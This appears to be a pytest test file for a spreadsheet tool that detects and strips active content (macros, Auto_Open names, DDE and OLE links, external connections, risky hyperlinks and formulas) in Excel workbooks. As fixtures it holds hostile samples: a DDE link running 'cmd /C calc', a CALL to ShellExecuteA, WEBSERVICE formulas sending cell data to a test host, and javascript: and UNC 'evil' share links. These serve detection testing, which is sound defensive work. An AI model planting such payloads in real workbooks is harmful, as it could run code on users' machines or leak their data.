"""What can act in a returned workbook is named, kept by regenerate and carried nowhere else."""

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.plans import some_plan
from tests.workbook.changing import AS_OF, entered, written
from xl_grc.cli import main
from xl_grc.errors import InputError
from xl_grc.ooxml.book import Book
from xl_grc.ooxml.content_types import MAIN_TYPES
from xl_grc.workbook.expected.active_content import ACTIVE, active_content, is_unsafe, what_acts
from xl_grc.workbook.expected.check import check
from xl_grc.workbook.plan_writer import settings
from xl_grc.workbook.repair.regenerate import regenerate

TEMPLATES = Path(__file__).parents[3] / "templates"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PLAN_SHEET = "xl/worksheets/sheet3.xml"


@pytest.fixture(scope="module")
def plan(tmp_path_factory):
    return written(tmp_path_factory.mktemp("plan") / "plan.xlsx", some_plan(4, 1)).read_bytes()


class Package:
    """A workbook whose parts can be changed."""

    def __init__(self, content):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def change(self, part, old, new):
        text = self.parts[part].decode()
        assert old in text
        self.parts[part] = text.replace(old, new, 1).encode()
        return self

    def relate(self, part, kind, target, key="rIdX", external=False):
        folder, _, name = part.rpartition("/")
        rels = f"{folder}/_rels/{name}.rels".lstrip("/")
        empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        self.parts.setdefault(rels, empty.encode())
        mode = ' TargetMode="External"' if external else ""
        kind = kind if ":" in kind else f"{OFFICE}/{kind}"
        link = f'<Relationship Id="{key}" Type="{kind}" Target="{target}"{mode}/>'
        return self.change(rels, "</Relationships>", f"{link}</Relationships>")

    def name(self, name, text, attributes=""):
        added = f'<definedName name="{name}"{attributes}>{text}</definedName></definedNames>'
        return self.change("xl/workbook.xml", "</definedNames>", added)

    def link(self, target, cell="C8"):
        """A hyperlink of a cell of the sheet of actions."""
        self.relate(PLAN_SHEET, "hyperlink", target, external=True)
        link = f'<hyperlinks><hyperlink ref="{cell}" xmlns:r="{OFFICE}" r:id="rIdX"/></hyperlinks>'
        anchor = "<pageMargins" if b"<pageMargins" in self.parts[PLAN_SHEET] else "</worksheet>"
        return self.change(PLAN_SHEET, anchor, link + anchor)

    def bytes(self):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            for name, content in self.parts.items():
                archive.writestr(name, content)
        return made.getvalue()


def told(content, file="plan.xlsx"):
    return [(one.key, one.sheet, one.cell) for one in active_content(Book(content, file)) if one.key in ACTIVE]


DDE = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
OLE = f'<externalLink xmlns="{MAIN}"><oleLink progId="Word.Document" xmlns:r="{OFFICE}" r:id="rId1"/></externalLink>'
BOOK = f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"/></externalLink>'


def with_part(package, part, text, kind, owner="xl/workbook.xml"):
    package.parts[part] = text.encode()
    return package.relate(owner, kind, f"/{part}")


MACROS = f'<xm:macrosheet xmlns:xm="{MAIN}"/>'
CONNECTIONS = f'<connections xmlns="{MAIN}"/>'
LINK, DRAWING = "xl/externalLinks/externalLink1.xml", "xl/drawings/drawing1.xml"


def with_book(package):
    package = with_part(package, LINK, BOOK, "externalLink")
    return package.relate(LINK, "externalLinkPath", "file:///srv/x.xlsx", "rId1", external=True)


def without_relation(package):
    package.parts["xl/VBAProject.bin"] = b"x"
    return package


PACKAGES = {
    "macros": ("active_macros", lambda p: with_part(p, "xl/vbaProject.bin", "x", f"{MICROSOFT}/vbaProject")),
    "macros without a relation": ("active_macros", without_relation),
    "macro sheet": ("active_macros", lambda p: with_part(p, "xl/m1.xml", MACROS, f"{MICROSOFT}/xlMacrosheet")),
    "Auto_Open": ("active_name", lambda p: p.name("_xlnm.Auto_Open", "Accueil!$A$1", ' hidden="1"')),
    "auto_close of a sheet": ("active_name", lambda p: p.name("auto_CLOSE", "Accueil!$A$1", ' localSheetId="0"')),
    "name of a macro": ("active_name", lambda p: p.name("Lancer", "Accueil!$A$1", ' xlm="1"')),
    "name that calls": ("active_call", lambda p: p.name("Taux", 'WEBSERVICE("http://x.test")')),
    "DDE": ("active_dde", lambda p: with_part(p, LINK, DDE, "externalLink")),
    "OLE": ("active_dde", lambda p: with_part(p, LINK, OLE, "externalLink")),
    "other workbook": ("active_outside", with_book),
    "connection": ("active_connection", lambda p: with_part(p, "xl/connections.xml", CONNECTIONS, "connections")),
    "ribbon": ("active_ribbon", lambda p: with_part(p, "ui.xml", "<customUI/>", f"{MICROSOFT}/ui/extensibility", "")),
    "embedded object": ("active_object", lambda p: with_part(p, "xl/ole1.bin", "x", "oleObject", PLAN_SHEET)),
    "picture of a share": ("active_outside", lambda p: p.relate(DRAWING, "image", "file://evil/x.png", external=True)),
    "link in a drawing": ("active_hyperlink", lambda p: p.relate(DRAWING, "hyperlink", "javascript:x", external=True)),
}


@pytest.mark.parametrize("kind", PACKAGES)
def test_a_part_that_can_act_is_named(kind, plan):
    key, change = PACKAGES[kind]
    found = told(change(Package(plan)).bytes())
    assert [one[0] for one in found] == [key]


@pytest.mark.parametrize(
    "target",
    [
        *("javascript:alert(1)", "JaVa&#9;Script:x", "file:///C:/Windows/System32/calc.exe", "\\\\evil\\share\\x"),
        *("//evil/share/x", "%5C%5Cevil/x", "C:\\x.exe", "vbscript:x", "ms-excel:ofe|u|http://x", "search-ms:query=x"),
        *("data:text/html,x", "outil.bat", "../x.lnk?y"),
    ],
)
def test_a_link_that_leads_elsewhere_is_named_with_its_cell(target, plan):
    assert told(Package(plan).link(target, "D9").bytes()) == [("active_hyperlink", "Plan d'actions", "D9")]


@pytest.mark.parametrize("target", ["https://example.org/x.exe", "mailto:a@example.org", "annexe.pdf", "#Budget!A1"])
def test_usual_links_are_not(target, plan):
    assert told(Package(plan).link(target).bytes()) == []
    assert not is_unsafe(target)


@pytest.mark.parametrize(
    "formula",
    [
        *('=WEBSERVICE("http://x.test/?"&A1)', '=_xlfn.WEBSERVICE("x")', '=1+hyperlink("http://x.test","x")'),
        *("=[1]Feuil1!$A$1", "='[1]Ma feuille'!A1", "='C:\\x\\[y.xlsx]S'!A1", "=cmd|'/C calc'!A0", '=RTD("a","b","c")'),
        *('=CALL("Shell32","ShellExecuteA","JJCCCCJ",0)', '=IMAGE("http://x.test")', "='file:///c:/x.xls'#$S.A1"),
    ],
)
def test_a_formula_in_an_input_that_reads_elsewhere_is_named_with_its_cell(formula, plan, tmp_path):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(plan)
    assert told(entered(path, ("Actions", "Dépenses", 0, formula)).read_bytes()) == [
        ("active_formula", "Plan d'actions", "H8")
    ]


@pytest.mark.parametrize(
    "formula",
    ["SUM(A1:B2)", "T[[#This Row],[2026]]", "T[2026]!", 'IF(A1="call(",1,2)', "'a|b'!A1", "T[a|b]", "[0]!Nom"],
)
def test_usual_formulas_do_not(formula):
    assert what_acts(formula.removesuffix("!")) == ""


def test_a_formula_in_a_list_a_rule_or_a_text_that_hides_is_named(plan):
    rule = '<cfRule type="expression" priority="99"><formula>{}</formula></cfRule></conditionalFormatting>'
    rule = f'<conditionalFormatting sqref="A1">{rule}'
    usual = "<conditionalFormatting"
    anchor = usual if usual.encode() in Package(plan).parts[PLAN_SHEET] else "<pageMargins"
    for formula in ("[1]S!A1", "&#87;EBSERVICE(1)", "<![CDATA[WEBSERVICE(1)]]>"):
        content = Package(plan).change(PLAN_SHEET, anchor, rule.format(formula) + anchor).bytes()
        assert told(content) == [("active_formula", "Plan d'actions", "")]


@pytest.mark.parametrize("title", ["xl_grc.conf", "XL_GRC.CONF", "xlwings.conf", "module.py"])
@pytest.mark.parametrize("state", ["visible", "hidden", "veryHidden"])
def test_a_sheet_of_settings_is_named(title, state, plan):
    said = 'name="{}" sheetId="9" state="{}"'
    package = Package(plan).change("xl/workbook.xml", said.format("Simulation", "visible"), said.format(title, state))
    (found,) = told(package.bytes())
    assert found[0] == ("active_code" if title.endswith(".py") else "active_settings")


def test_a_file_of_settings_beside_is_named(plan, tmp_path, capsys):
    (tmp_path / "plan.xlsx").write_bytes(plan)
    assert main(["check", str(tmp_path / "plan.xlsx"), "--as-of", f"{AS_OF}"]) == 0
    assert "xl_grc.conf" not in capsys.readouterr().out
    (tmp_path / "xl_grc.conf").write_text('"INTERPRETER_WIN","evil"')
    assert main(["check", str(tmp_path / "plan.xlsx"), "--as-of", f"{AS_OF}"]) == 0
    assert "xl_grc.conf" in capsys.readouterr().out


def test_what_we_write_acts_nowhere(plan):
    assert active_content(Book(plan, "plan.xlsx")) == []
    for template in TEMPLATES.glob("*.xlsx"):
        assert active_content(Book(template.read_bytes(), template.name)) == []


# -- what each command does with it ------------------------------------------------------------------------------------


@pytest.fixture
def hostile(plan, tmp_path):
    """A plan with a bit of everything."""
    path = tmp_path / "hostile.xlsm"
    path.write_bytes(plan)
    entered(path, ("Actions", "Dépenses", 0, '=WEBSERVICE("http://x.test")'), ("Actions", "Recettes", 0, "=[1]S!A1"))
    package = Package(path.read_bytes())
    for kind in ("macros", "Auto_Open", "DDE", "connection"):
        package = PACKAGES[kind][1](package)
    types = package.parts["[Content_Types].xml"].decode().replace(MAIN_TYPES[".xlsx"], MAIN_TYPES[".xlsm"])
    package.parts["[Content_Types].xml"] = types.encode()
    path.write_bytes(package.link("javascript:alert(1)").bytes())
    return path


def test_regenerate_keeps_it_byte_for_byte_and_says_so_once(hostile):
    before = hostile.read_bytes()
    made = regenerate(before, str(hostile), AS_OF)
    assert [one.key for one in made.problems if one.key in ACTIVE] == ["active_kept"]
    old, new = Package(before).parts, Package(made.content).parts
    for part in ("xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/connections.xml"):
        assert new[part] == old[part]
    assert sorted(told(made.content)) == sorted(told(before))
    checked = check(before, str(hostile), AS_OF)
    assert sorted((one.key, one.sheet, one.cell) for one in checked if one.key in ACTIVE) == sorted(told(before))


def test_new_and_collect_carry_none_of_it(hostile, tmp_path):
    outputs = [tmp_path / name for name in ("new.xlsx", "next.xlsx", "all.xlsx")]
    assert main(["new", str(hostile), "-o", str(outputs[0])]) == 0
    assert main(["new", str(hostile), "-o", str(outputs[1]), "--start", "2030-01"]) == 0
    assert main(["collect", str(hostile), "-o", str(outputs[2])]) == 0
    for output in outputs:
        assert active_content(Book(output.read_bytes(), output.name)) == []
        for name, content in Package(output.read_bytes()).parts.items():
            assert not any(sign in content for sign in (b"WEBSERVICE", b"javascript", b"vbaProject", b"ddeLink")), name


# -- the kind of a file ------------------------------------------------------------------------------------------------


def of_kind(content, suffix):
    package = Package(content)
    types = package.parts["[Content_Types].xml"].decode()
    assert MAIN_TYPES[".xlsx"] in types
    package.parts["[Content_Types].xml"] = types.replace(MAIN_TYPES[".xlsx"], MAIN_TYPES[suffix]).encode()
    return package


@pytest.mark.parametrize("suffix", [".xltx", ".xlsm", ".xltm"])
def test_a_template_of_another_kind_gives_workbooks(suffix, tmp_path):
    template = tmp_path / f"modele{suffix}"
    template.write_bytes(of_kind((TEMPLATES / "plan_fr.xlsx").read_bytes(), suffix).bytes())
    assert main(["new", "-o", str(tmp_path / "plan.xlsx"), "--company", "A", "--template", str(template)]) == 0
    types = Package((tmp_path / "plan.xlsx").read_bytes()).parts["[Content_Types].xml"].decode()
    assert types.count(MAIN_TYPES[".xlsx"]) == 1
    assert MAIN_TYPES[suffix] not in types
    assert load_workbook(tmp_path / "plan.xlsx").mime_type == MAIN_TYPES[".xlsx"]


@pytest.mark.parametrize("suffix", [".xlsm", ".xltm", ".xlsx"])
def test_a_template_with_macros_is_refused(suffix, tmp_path):
    package = PACKAGES["macros"][1](of_kind((TEMPLATES / "plan_fr.xlsx").read_bytes(), suffix))
    (tmp_path / f"modele{suffix}").write_bytes(package.bytes())
    with pytest.raises(InputError, match="template_macros"):
        settings(None, tmp_path / f"modele{suffix}", AS_OF)


@pytest.mark.parametrize("named", MAIN_TYPES)
@pytest.mark.parametrize("said", MAIN_TYPES)
def test_a_file_that_says_to_be_another_is_told(named, said, plan):
    keys = [one.key for one in check(of_kind(plan, said).bytes(), f"plan{named.upper()}", AS_OF)]
    assert ("wrong_extension" in keys) == (named != said)
